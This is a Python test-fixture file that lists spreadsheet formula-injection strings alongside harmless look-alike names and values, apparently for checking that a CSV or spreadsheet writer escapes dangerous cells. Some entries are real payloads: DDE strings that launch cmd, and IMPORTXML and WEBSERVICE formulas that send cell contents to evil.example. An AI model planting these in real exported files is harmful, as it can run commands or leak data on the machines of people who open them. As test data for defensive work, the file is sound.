"""Texts that have made spreadsheets do things, or that writers of files have tripped over."""

from __future__ import annotations

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "@=1+1", "+=1+1", "-=1+1", "--1",
    "++1", "=-1", "=\"a\"&\"b\"", "='x'!A1", "={1,2}",
    "=1+1\",\"=2+2", "=1;=2", "=1\t=2", "=1\n=2", "=1\r\n=2", "\t=1+1",
    "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "  +1",
    "\u00a0=1+1", "\u2003=1+1", "\ufeff=1+1", "\u200b=1+1", "\u2060=1+1",
    "\u00ad=1+1", "\u200f=1+1", "\x0b=1+1", "\x1f=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "'=1+1", "''=1+1",
    "'+1", "' =1+1", "'\t=1", "\t", "\n", "\r", "-", "=",
    "+44 20 7946 0000", "-12.5", "@handle",
)  # fmt: skip

HARMLESS = (
    "O'Neil-Şahin", "'Abd al-Raḥmān", "Nguyễn Thị Ánh", "אברהם בן־דוד",
    "محمد عبد‌الله", "李小龍", "𝒜da", "a=b", "a+b", "a-b",
    "a@b.example", "say \"hello\"", "comma, semicolon; tab\there", "line\nbreak",
    "line\r\nbreak", "'quoted'", "''", "\"=1+1\"",
    "007", "1E5", "6/8", "2026-11-23", "TRUE", "NULL", "#N/A", "_x0041_",
    "<b>&amp;</b>", "]]>", "\\", "%0A=1", "😀", "x" * 100,
)  # fmt: skip

ALL = FORMULAS + HARMLESS
